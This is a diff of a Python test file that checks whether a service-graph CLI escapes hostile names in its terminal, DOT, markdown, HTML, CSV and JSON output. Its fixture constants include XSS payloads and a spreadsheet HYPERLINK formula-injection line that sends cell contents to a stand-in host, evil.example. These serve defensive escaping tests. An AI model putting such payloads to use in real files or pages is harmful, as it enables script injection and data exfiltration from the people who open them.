@@ -15,10 +15,10 @@ from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
+from views.checks import check_csv, check_dot, check_html, check_markdown, check_mermaid, check_terminal
 
 from svcchain.cli import app
 from svcchain.views.escape import one_line
-from views.checks import check_csv, check_dot, check_html, check_markdown, check_mermaid, check_terminal
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = "tests/views/hostile-names"
@@ -26,9 +26,9 @@ HOSTILE = "tests/views/hostile-names"
 SERVICE_NAME = "Evil \" --> B[pwned] %% `code` | pipe <script>alert('name')</script>"
 NEED_TEXT = "```\n<script>alert('need')</script>\n``` & \"quotes\" 'single' | pipe --> arrow"
 RESULT = "-2+3 <b onmouseover=alert(6)>result</b> ]] --> n9"
-TARGET = "\" onmouseover=\"alert(7)\" data-x=\""
+TARGET = '" onmouseover="alert(7)" data-x="'
 GHOST_OWNER = "<img src=x onerror=alert(8)>"
-FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 TERMINAL_NAME = "-2+3 \x1b[31mred\x1b[0m \u202eevil"
 
 
@@ -57,17 +57,20 @@ def test_the_fixture_holds_what_the_tests_are_about():
 # --------------------------------------------------------------------------- terminal views
 
 
-@pytest.mark.parametrize("args", [
-    ("show", HOSTILE),
-    ("show", "svc.evil_1", HOSTILE),
-    ("trace", HOSTILE),
-    ("trace", "svc.evil_1", HOSTILE, "--need", "need--x"),
-    ("owners", HOSTILE),
-    ("impact", "trent", HOSTILE),
-    ("impact", "solo.team", HOSTILE),
-    ("impact", "eve.X_1", HOSTILE),
-    ("impact", "--all", HOSTILE),
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("show", HOSTILE),
+        ("show", "svc.evil_1", HOSTILE),
+        ("trace", HOSTILE),
+        ("trace", "svc.evil_1", HOSTILE, "--need", "need--x"),
+        ("owners", HOSTILE),
+        ("impact", "trent", HOSTILE),
+        ("impact", "solo.team", HOSTILE),
+        ("impact", "eve.X_1", HOSTILE),
+        ("impact", "--all", HOSTILE),
+    ],
+)
 def test_terminal_views_print_plain_text(args):
     check_terminal(run(*args))
 
@@ -103,7 +106,7 @@ def test_dot_strings_are_closed_and_escaped(selection):
     out = run("graph", *selection, HOSTILE, "--format", "dot")
     strings = check_dot(out)
     assert '"Evil \\" --> B[pwned] %% `code` | pipe <script>alert(\'name\')</script> (svc.evil_1)"' in strings
-    assert any("Solo step \\\\ back\\\\slash \\\\\\\"escaped" in string for string in strings)
+    assert any('Solo step \\\\ back\\\\slash \\\\\\"escaped' in string for string in strings)
     assert "\\n" in out  # the line breaks in labels are DOT's escapes
 
 
@@ -141,11 +144,14 @@ def test_owners_markdown_and_json():
 # --------------------------------------------------------------------------- JSON views
 
 
-@pytest.mark.parametrize("args", [
-    ("trace", HOSTILE, "--format", "json"),
-    ("impact", "trent", HOSTILE, "--format", "json"),
-    ("impact", "--all", HOSTILE, "--format", "json"),
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("trace", HOSTILE, "--format", "json"),
+        ("impact", "trent", HOSTILE, "--format", "json"),
+        ("impact", "--all", HOSTILE, "--format", "json"),
+    ],
+)
 def test_json_views_are_valid_json(args):
     json.loads(run(*args))
 
